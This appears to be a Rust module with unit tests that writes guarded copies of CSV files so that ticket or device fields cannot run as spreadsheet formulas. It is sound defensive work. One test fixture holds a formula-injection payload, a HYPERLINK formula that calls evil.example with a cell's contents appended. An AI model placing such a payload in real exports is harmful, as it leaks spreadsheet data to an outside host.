//! A file a planner brought, written again so that a spreadsheet can open it safely: a ticket's
//! description or a device name typed by anyone can start with `=`, and a viewer opening the
//! program's export in Excel would run it. Every cell reads back as what the importers read in
//! the original (they undo the guards: [`crate::csv_safe::restore`]), so `wavegate score` on the
//! copy decides as on the file.

use super::{Cells, InputError, decode_text, scan};
use crate::csv_safe::{CsvOptions, SafeCsvWriter, neutralise, restore};

/// Whether the cell as written differs from the copy's (what the importers read, trimmed and
/// with guards undone, guarded again): it could run as a formula, or hides an invisible
/// character.
fn needs_guard(cell: &str) -> bool {
    let trimmed = cell.trim();
    neutralise(&restore(trimmed)) != trimmed
}

/// `bytes` (a CSV file `file` as its source system wrote it) with every cell that a spreadsheet
/// could run as a formula guarded, as UTF-8 with a byte-order mark and the file's own
/// delimiter; `None` when no cell needs it (the file is then safe as it is, and keeps its
/// bytes and hash). Blank rows are left out, as the importers skip them.
pub fn guarded_copy(file: &str, bytes: &[u8]) -> Result<Option<Vec<u8>>, InputError> {
    let text = decode_text(bytes);
    if !needed(file, &text)? {
        return Ok(None);
    }
    let out = Vec::with_capacity(bytes.len() + 1024);
    written(file, &text, out).map(Some)
}

/// Whether [`guarded_copy`] of `bytes` is a copy (some cell needs a guard), without writing
/// it: a server that sends the file as it is when not can stream it instead.
pub fn needs_guarded_copy(file: &str, bytes: &[u8]) -> Result<bool, InputError> {
    needed(file, &decode_text(bytes))
}

/// The guarded copy of `bytes` (as [`guarded_copy`] writes it, whether or not a cell needs a
/// guard) written to `out` as it is made, never whole in memory; `out` back when done. A
/// failed write is an [`InputError`] naming the file, with the writer's error as its detail.
pub fn write_guarded_copy<W: std::io::Write>(
    file: &str,
    bytes: &[u8],
    out: W,
) -> Result<W, InputError> {
    written(file, &decode_text(bytes), out)
}

fn needed(file: &str, text: &str) -> Result<bool, InputError> {
    let (head, mut rows) = scan(file, text)?;
    let mut needed = head.headers().iter().any(|h| needs_guard(h));
    while !needed && let Some(row) = rows.next_row(&head)? {
        needed = (0..row.len()).any(|i| needs_guard(row.cell(i)));
    }
    Ok(needed)
}

fn written<W: std::io::Write>(file: &str, text: &str, out: W) -> Result<W, InputError> {
    let (head, mut rows) = scan(file, text)?;
    let options = CsvOptions {
        delimiter: head.delimiter(),
        bom: true,
    };
    let failed = |e: std::io::Error| {
        InputError::file(
            file,
            0,
            super::FileProblem::Unreadable {
                detail: e.to_string(),
            },
        )
    };
    let mut out = SafeCsvWriter::new(out, options).map_err(failed)?;
    out.row(
        head.headers()
            .iter()
            .map(|h| restore(h.trim()).into_owned()),
    )
    .map_err(failed)?;
    while let Some(row) = rows.next_row(&head)? {
        out.row((0..row.len()).map(|i| restore(row.cell(i).trim()).into_owned()))
            .map_err(failed)?;
    }
    out.finish().map_err(failed)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tabular::Table;

    fn read(bytes: &[u8]) -> Vec<Vec<String>> {
        let text = decode_text(bytes);
        let table = Table::parse("t.csv", &text).unwrap();
        let mut out = vec![table.headers().to_vec()];
        for row in table.rows() {
            out.push(
                (0..table.headers().len())
                    .map(|i| restore(row.cell(i).trim()).into_owned())
                    .collect(),
            );
        }
        out
    }

    #[test]
    fn a_file_without_formulas_keeps_its_bytes() {
        let file = b"number;short_description;priority\r\nINC1;Portal hangt;2\r\nINC2;5 graden buiten;3\r\n";
        assert_eq!(guarded_copy("tickets.csv", file).unwrap(), None);
    }

    #[test]
    fn formula_cells_are_guarded_and_read_back_as_in_the_file() {
        let file = "number;short_description;priority\r\nINC1;\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"klik\"\")\";2\r\nINC2;  +31 6 1234;3\r\nINC3;'=al bewaakt;1\r\n";
        let copy = guarded_copy("tickets.csv", file.as_bytes())
            .unwrap()
            .expect("a copy");
        let text = String::from_utf8(copy.clone()).unwrap();
        assert!(text.starts_with('\u{FEFF}'), "UTF-8 for Excel");
        assert!(text.contains("'=HYPERLINK"), "{text}");
        assert!(text.contains(";'+31 6 1234;"), "{text}");
        assert!(!text.contains(";=HYPERLINK"), "{text}");
        // What the importers read is what they read in the original.
        assert_eq!(read(&copy), read(file.as_bytes()));
        // And the copy needs no copy of its own.
        assert_eq!(guarded_copy("tickets.csv", &copy).unwrap(), None);
    }

    #[test]
    fn the_copy_written_to_a_writer_is_the_copy_and_needed_says_when_there_is_one() {
        let plain = b"number;short_description\r\nINC1;Portal hangt\r\n";
        assert!(!needs_guarded_copy("tickets.csv", plain).unwrap());
        let file = b"number;short_description\r\nINC1;=1+1\r\n\r\nINC2;@SUM(A1)\r\n";
        assert!(needs_guarded_copy("tickets.csv", file).unwrap());
        let copy = guarded_copy("tickets.csv", file).unwrap().unwrap();
        let streamed = write_guarded_copy("tickets.csv", file, Vec::new()).unwrap();
        assert_eq!(streamed, copy);
        // A writer that fails is the file's error.
        struct Broken;
        impl std::io::Write for Broken {
            fn write(&mut self, _: &[u8]) -> std::io::Result<usize> {
                Err(std::io::ErrorKind::BrokenPipe.into())
            }
            fn flush(&mut self) -> std::io::Result<()> {
                Ok(())
            }
        }
        assert!(write_guarded_copy("tickets.csv", file, Broken).is_err());
    }

    #[test]
    fn a_windows_1252_file_is_copied_as_utf8_with_its_delimiter() {
        let mut file = b"person_id;naam\r\np1;=Ren".to_vec();
        file.push(0xE9); // é in Windows-1252
        file.extend_from_slice(b"e\r\n");
        let copy = guarded_copy("roster.csv", &file).unwrap().unwrap();
        let text = String::from_utf8(copy).unwrap();
        assert!(text.contains("p1;'=René"), "{text}");
    }
}
